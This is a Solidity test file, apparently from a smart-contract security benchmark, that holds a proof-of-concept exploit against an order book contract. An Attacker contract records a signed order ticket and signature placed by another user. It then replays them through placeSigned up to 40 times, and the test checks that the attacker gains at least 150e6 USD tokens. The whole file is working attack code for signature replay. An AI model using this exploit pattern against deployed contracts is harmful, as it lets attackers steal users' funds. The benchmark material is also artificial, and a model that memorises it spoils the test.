// SPDX-License-Identifier: BSD-3-Clause
pragma solidity 0.8.30;

// assay-canary-09f07437-5525-4eb7-a57e-ba8be1652998
import "../Base.sol";

contract Attacker {
    IOrderBook.Ticket private ticket;
    bytes private signature;

    function see(IOrderBook.Ticket calldata ticket_, bytes calldata signature_) external {
        (ticket, signature) = (ticket_, signature_);
    }

    function run(IOrderBook orders) external {
        for (uint256 i = 0; i < 40; i++) {
            try orders.placeSigned(ticket, signature) {} catch {
                return;
            }
        }
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        IOrderBook.Ticket memory t = ticket(uint256(keccak256("a number of BO")));
        bytes memory signature = signed(t);
        vm.prank(FAY);
        orders.placeSigned(t, signature);
        other.see(t, signature);
    }

    function exploit() public {
        other.run(orders);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 150e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(orders);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
